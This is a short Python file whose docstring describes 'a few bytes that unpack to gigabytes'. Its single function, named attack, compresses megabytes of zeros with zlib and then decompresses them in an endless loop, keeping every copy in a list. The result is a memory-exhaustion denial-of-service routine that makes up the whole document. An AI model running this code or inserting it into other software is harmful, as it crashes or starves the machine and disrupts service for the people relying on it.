"""A few bytes that unpack to gigabytes."""
import zlib


def attack():
    packed = zlib.compress(b"\0" * (1 << 22), 9)
    hoard = []
    while True:
        hoard.append(zlib.decompress(packed))
